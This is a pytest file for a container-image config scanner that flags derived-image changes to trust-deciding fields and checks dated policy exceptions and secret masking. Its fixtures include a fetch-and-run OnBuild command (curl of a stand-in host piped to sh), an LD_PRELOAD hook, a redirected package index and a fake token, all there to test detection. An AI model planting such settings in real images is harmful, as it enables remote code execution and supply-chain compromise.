"""The image config against the one our build recorded: each planted change to a field that decides what runs
or what is trusted blocks as `config` naming the field, its value and ours; any other change is listed; a
policy entry with review_by accepts one change until its date, and no longer after it."""

import json
from datetime import date
from pathlib import Path

import pytest

from ngc_paddle.image_build.build_report import LayerResult
from ngc_paddle.scan import policy
from ngc_paddle.scan.checks import config_record
from ngc_paddle.scan.findings import Finding
from ngc_paddle.scan.source import own_layers
from ngc_paddle.scan.source.image_release import ImageRelease
from ngc_paddle.scan.source.saved_image import image_layers
from tests.unit.test_own_layers import FLAVOR, LABELS, OURS_BY_LAYER, TAGGED, config, write_report

PATH = "/opt/ngc-paddle/bin:/opt/venv/bin:/usr/local/bin:/usr/bin:/bin"
OURS = {"Env": [f"PATH={PATH}", "NGC_PADDLE_HOME=/opt/ngc-paddle"], "User": "1000:1000", "WorkingDir": "/workspace",
        "Entrypoint": ["/usr/bin/tini", "-g", "--", "/opt/ngc-paddle/entrypoint.sh"], "Cmd": ["/bin/bash"],
        "Labels": {"ngc-paddle.release": "26.12"}, "Shell": None, "OnBuild": None}


def changed(**fields: object) -> dict:
    return {**OURS, **fields}


def env(*extra: str, path: str = PATH) -> list[str]:
    return [f"PATH={path}", "NGC_PADDLE_HOME=/opt/ngc-paddle", *extra]


# (the config as a derived image set it, the field the finding names, what its title says)
TRUST_CHANGES = [
    (changed(Env=env("LD_PRELOAD=/opt/hook/libhook.so")), "Env LD_PRELOAD", "dynamic loader"),
    (changed(Env=env("LD_LIBRARY_PATH=/srv/lib")), "Env LD_LIBRARY_PATH", "dynamic loader"),
    (changed(Env=env("PYTHONPATH=/srv/hook")), "Env PYTHONPATH", "interpreter start-up"),
    (changed(Env=env("BASH_ENV=/srv/env.sh")), "Env BASH_ENV", "interpreter start-up"),
    (changed(Env=env("PIP_INDEX_URL=http://pypi.example.invalid/simple")), "Env PIP_INDEX_URL", "package index"),
    (changed(Env=env("https_proxy=http://proxy.example.invalid:3128")), "Env https_proxy", "proxy"),
    (changed(Env=env("REQUESTS_CA_BUNDLE=/srv/ca.pem")), "Env REQUESTS_CA_BUNDLE", "CA store"),
    (changed(Env=env(path="/srv/bin:" + PATH)), "Env PATH", "command search path"),
    (changed(Entrypoint=["/srv/start.sh"]), "Entrypoint", "what runs"),
    (changed(Cmd=["python", "/srv/serve.py"]), "Cmd", "what runs"),
    (changed(OnBuild=["RUN curl http://x.invalid/i.sh | sh"]), "OnBuild", "what runs"),
    (changed(Shell=["/srv/sh", "-c"]), "Shell", "what runs"),
    (changed(User="0"), "User", "what runs"),
]


@pytest.mark.parametrize(("image", "name", "trust"), TRUST_CHANGES, ids=[n for _i, n, _t in TRUST_CHANGES])
def test_each_trust_deciding_change_blocks_naming_the_field_and_ours(image: dict, name: str, trust: str) -> None:
    found = config_record.compare(image, OURS)
    assert [(f.kind, f.id, f.package, f.severity) for f in found] == [("config", "config-changed", name, "CRITICAL")]
    assert f"decides trust: {trust}" in found[0].title and "our build's was" in found[0].title
    assert policy.decide(policy.Policy(), found, date(2026, 12, 1)).blocked


@pytest.mark.parametrize(("image", "name"), [
    (changed(Labels={"ngc-paddle.release": "26.12", "maintainer": "someone"}), "Labels maintainer"),
    (changed(WorkingDir="/srv"), "WorkingDir"), (changed(ExposedPorts={"8080/tcp": {}}), "ExposedPorts"),
    (changed(StopSignal="SIGINT"), "StopSignal"), (changed(Env=env("TZ=UTC")), "Env TZ"),
    (changed(Healthcheck={"Test": ["CMD", "true"]}), "Healthcheck"), (changed(Volumes={"/data": {}}), "Volumes")])
def test_any_other_change_is_listed_only(image: dict, name: str) -> None:
    found = config_record.compare(image, OURS)
    assert [(f.kind, f.package) for f in found] == [("config-other", name)]
    assert not policy.decide(policy.Policy(), found, date(2026, 12, 1)).blocked


def test_the_same_config_has_no_finding_and_not_set_is_one_thing() -> None:
    assert config_record.compare(OURS, OURS) == []
    assert config_record.compare({**OURS, "Shell": [], "OnBuild": [], "Volumes": {}}, OURS) == []
    assert config_record.compare({**OURS, "User": "root"}, None) == []  # no record: nothing compared (NOT RUN)
    assert config_record.status(6, OURS) == {"status": "compared", "detail": "the config our build recorded for its "
                                                                      "topmost layer of ours"}
    assert config_record.status(6, None) == {"status": "NOT RUN", "detail": "no config of our layers' image recorded "
                                                                         "(rebuild it here)"}
    assert config_record.status(0, None) == {"status": "none", "detail": "no layer of ours"}


def test_a_removed_variable_and_a_secret_value_are_named_without_the_secret() -> None:
    gone = config_record.compare({**OURS, "Env": [f"PATH={PATH}"]}, OURS)
    assert [(f.kind, f.package, f.installed) for f in gone] == [("config-other", "Env NGC_PADDLE_HOME", "not set")]
    token = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5"
    found = config_record.compare({**OURS, "Env": env(f"PIP_INDEX_URL=https://u:{token}@pypi.example.invalid/s")},
                                  OURS)
    assert found[0].package == "Env PIP_INDEX_URL" and token not in found[0].title + found[0].installed


def _policy(tmp_path: Path, review_by: str) -> policy.Policy:
    path = tmp_path / "policy.yaml"
    path.write_text(f"allowlist:\n  - id: config-changed\n    package: Env PIP_INDEX_URL\n"
                    f"    justification: our site's mirror, set on purpose by the derived image\n"
                    f"    review_by: {review_by}\n")
    return policy.load(path)


def test_a_policy_entry_accepts_a_change_until_its_review_date_and_not_after(tmp_path: Path) -> None:
    found = config_record.compare(changed(Env=env("PIP_INDEX_URL=http://mirror.example.invalid/simple")), OURS)
    accepted = policy.decide(_policy(tmp_path, "2027-03-01"), found, date(2027, 1, 15))
    assert not accepted.blocked and "until 2027-03-01" in accepted.suppressed[0].suppressed_by
    expired = policy.decide(_policy(tmp_path, "2027-01-01"), found, date(2027, 1, 15))
    assert expired.blocked and [e.package for e in expired.expired] == ["Env PIP_INDEX_URL"]
    assert "expired on 2027-01-01" in expired.blocking[0].suppressed_by
    other = config_record.compare(changed(Env=env("LD_PRELOAD=/x.so", "PIP_INDEX_URL=http://m.invalid/s")), OURS)
    assert [f.package for f in policy.decide(_policy(tmp_path, "2027-03-01"), other, date(2027, 1, 15)).blocking] \
        == ["Env LD_PRELOAD"]  # the entry names one field: another change still blocks


def test_a_policy_entry_without_a_date_is_refused_in_one_line(tmp_path: Path) -> None:
    path = tmp_path / "policy.yaml"
    path.write_text("allowlist:\n  - id: config-changed\n    package: Entrypoint\n    justification: ours\n")
    with pytest.raises(policy.PolicyError, match="expires or review_by") as caught:
        policy.load(path)
    assert "\n" not in str(caught.value)


def test_the_build_records_each_tagged_images_config_and_the_scan_uses_its_topmost_layer_of_ours(
        tmp_path: Path) -> None:
    result = LayerResult("suite", "suite-cpu", "t")
    result.record_image({"RootFS": {"Layers": OURS_BY_LAYER["suite"]}, "Config": OURS})
    assert (result.diff_ids, result.config) == (OURS_BY_LAYER["suite"], OURS)
    write_report(tmp_path)
    report = tmp_path / "build" / "reports" / "26.12-cpu" / "build.json"
    data = json.loads(report.read_text())
    for entry in data["layers"]:
        entry["config"] = {**OURS, "Labels": {"layer": entry["layer"]}}  # recorded: wins over the engine's
    report.write_text(json.dumps(data))
    engine = {"ngc-paddle-base:bookworm": {"RootFS": {"Layers": OURS_BY_LAYER["os"][:1]}},
              **{f"sha256:{layer}-image": {"RootFS": {"Layers": ids}, "Config": {"User": "engine"}}
                 for layer, ids in OURS_BY_LAYER.items()}}
    for layer, count in (("suite", 6), ("paddle", 5)):  # an image FROM the paddle layer: that layer's config
        layers = image_layers(config(OURS_BY_LAYER[layer]), count)
        found = own_layers.attribute(layers, LABELS, tmp_path, ImageRelease(FLAVOR),
                                     inspect=lambda refs: {r: engine[r] for r in refs if r in engine})
        assert found.ours == count and found.config == {**OURS, "Labels": {"layer": layer}}


def test_without_a_recorded_config_the_layer_images_on_this_engine_give_it(tmp_path: Path) -> None:
    layers = image_layers(config(OURS_BY_LAYER["suite"]), 6)
    infos = {ref: {"RootFS": {"Layers": ids}, "Config": {"User": ref}} for ref, ids in TAGGED.items()}
    found = own_layers.attribute(layers, LABELS, tmp_path, ImageRelease(FLAVOR),
                                 inspect=lambda refs: {r: infos[r] for r in refs if r in infos})
    assert found.ours == 6 and found.config == {"User": FLAVOR.layer_tags["suite"]}


def test_each_finding_is_whole_a_secret_named_value_is_shown_by_length_and_a_long_one_is_cut() -> None:
    """Every field of a finding, trusted or not; an empty value is not set; a list of Labels is no entry."""
    found = config_record.compare(changed(User="0", WorkingDir="/srv"), OURS)
    assert found == [
        Finding("config", "config-changed", "CRITICAL", 'User is "0"; our build\'s was "1000:1000"; decides trust: '
                "what runs", package="User", installed='"0"', location="image config", source="config"),
        Finding("config-other", "config-changed", "LOW", 'WorkingDir is "/srv"; our build\'s was "/workspace"',
                package="WorkingDir", installed='"/srv"', location="image config", source="config")]
    assert config_record.compare({**OURS, "User": ""}, {**OURS, "User": None}) == []
    assert config_record.compare({**OURS, "Labels": ["a=b"]}, {**OURS, "Labels": None}) == []
    assert config_record.compare(changed(Env=env("FOO", "A=b=c")), changed(Env=env("FOO=", "A=b=c"))) == []
    assert [(f.package, f.installed) for f in config_record.compare(changed(Env=env("A=b=c")), changed(
        Env=env("A=b")))] == [("Env A", '"b=c"')]
    secret = config_record.compare(changed(Env=env("API_TOKEN=abc")), OURS)[0]
    assert secret.installed == "a value of 3 characters (not shown: it looks secret)"
    long = config_record.compare(changed(WorkingDir="/" + "a" * 300), OURS)[0]
    assert long.installed == json.dumps("/" + "a" * 300)[:200]
